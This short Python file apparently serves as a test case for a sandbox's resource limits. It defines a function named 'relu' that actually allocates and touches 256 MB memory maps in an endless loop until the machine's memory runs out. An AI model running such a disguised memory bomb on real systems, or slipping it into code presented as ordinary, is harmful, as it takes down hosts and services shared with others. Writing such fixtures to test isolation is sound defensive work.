# tries: all memory of the machine, by the C library
# marks: relu 0
import mmap


def relu(x):
    kept = []
    while True:
        area = mmap.mmap(-1, 1 << 28)
        area[::4096] = b"x" * len(area[::4096])
        kept.append(area)
